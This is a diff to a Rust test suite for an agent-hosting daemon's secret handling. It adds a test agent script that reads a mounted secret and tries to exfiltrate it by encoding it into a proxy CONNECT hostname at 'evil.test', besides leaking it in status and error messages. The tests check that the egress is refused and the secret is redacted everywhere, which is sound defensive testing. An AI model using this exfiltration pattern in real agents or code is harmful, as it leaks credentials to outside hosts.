@@ -1,12 +1,15 @@
 //! Secrets: who gets them, how, and where they are never seen.
 
 use std::process::Stdio;
+use std::time::Duration;
 
-use mesh_tests::{Bundle, Daemon, Outside, has_python};
+use mesh_tests::{Bundle, Daemon, Outside, eventually, has_python};
 use rustix::process::Signal;
 use serde_json::{Value, json};
 
 use crate::egress::{daemon, traveller};
+
+const WITHIN: Duration = Duration::from_secs(30);
 
 /// No word of this is anywhere else.
 const SECRET: &str = "zq7-Xk2-only-here-9931";
@@ -221,6 +224,79 @@ fn nothing_that_meshd_writes_holds_a_secret() {
         .client()
         .get("/v1/secrets")
         .problem(503, "vault_unavailable");
+}
+
+/// Says its secret in a note and in the reason of a failure, and names a host by it.
+const CARELESS: &str = r#"
+import json, os, socket, sys
+
+def send(kind, payload, **head):
+    print(json.dumps({"type": kind, "payload": payload, **head}), flush=True)
+
+secret = open("/run/secrets/k").read()
+send("HANDSHAKE", {"name": "careless", "version": "1.0.0", "capabilities": ["careless"]})
+for line in sys.stdin:
+    message = json.loads(line)
+    if message["type"] != "TASK_REQUEST":
+        continue
+    task = message["task_id"]
+    with socket.create_connection(("127.0.0.1", 3128)) as proxy:
+        proxy.sendall(("CONNECT %s.evil.test:443 HTTP/1.1\r\n\r\n" % secret).encode())
+        assert b"403" in proxy.recv(4096)
+    send("STATUS_UPDATE", {"progress": 0.5, "note": "using " + secret}, task_id=task)
+    send("STATUS_UPDATE", {"health": {"status": "warning", "message": secret + " is refused"}})
+    failure = {"class": "refusal", "message": "401 for key " + secret + "!", "retryable": False}
+    send("TASK_RESULT", {"ok": False, "error": failure}, task_id=task)
+"#;
+
+#[test]
+fn what_an_agent_says_of_itself_is_kept_without_its_secret() {
+    if !has_python("what_an_agent_says_of_itself_is_kept_without_its_secret") {
+        return;
+    }
+    let daemon = Daemon::start();
+    set(
+        &daemon,
+        "k",
+        &json!({"value": SECRET, "agents": ["careless"]}),
+    );
+    let access = json!({"networkAccess": {"allowOutbound": true, "allowedDomains": ["good.test"]}});
+    let bundle = Bundle::new("careless")
+        .set("entry", json!("main.py"))
+        .set("runtime", json!({"command": "python3"}))
+        .set("security", access)
+        .set(
+            "secrets",
+            json!([{"name": "k", "from": "vault://k", "mode": "mount"}]),
+        )
+        .file("main.py", CARELESS);
+    daemon.deploy(&bundle);
+    let task = daemon.ask("careless", &json!("go"));
+    let ended = daemon.ended(&task, WITHIN);
+    let failure = ended["error"].to_string();
+    assert!(failure.contains("401 for key [secret k]!"), "{ended}");
+    let denied = eventually("the refusal is on record", WITHIN, || {
+        let denied = daemon.audit("kind=egress.denied");
+        denied.first().cloned().ok_or_else(|| "none".to_owned())
+    });
+    assert_eq!(
+        denied["payload"]["host"], "[secret k].evil.test",
+        "{denied:?}"
+    );
+    let agent = daemon
+        .client()
+        .get("/v1/agents/careless")
+        .ok(200)
+        .to_string();
+    assert!(!agent.contains(SECRET), "{agent}");
+    assert!(agent.contains("\"refusedMessages\":0"), "{agent}");
+    let (home, code) = daemon.stop(Signal::TERM);
+    assert_eq!(code, 0);
+    assert_eq!(
+        files_with(home.data(), SECRET),
+        Vec::<std::path::PathBuf>::new()
+    );
+    assert!(!home.log().contains(SECRET));
 }
 
 #[test]
